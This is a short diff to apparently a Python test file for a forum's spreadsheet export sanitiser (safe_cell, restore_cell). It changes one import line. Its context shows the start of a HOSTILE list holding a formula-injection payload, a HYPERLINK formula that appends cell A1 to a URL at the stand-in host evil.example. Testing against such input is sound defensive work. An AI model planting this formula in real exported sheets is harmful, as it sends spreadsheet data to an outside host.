@@ -23,7 +23,7 @@ from forum.interop.polis import (
 )
 from forum.models import Comment, User
 from forum.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell
-from tests.conftest import login, make_user
+from tests.factories import login, make_user
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for the source")',
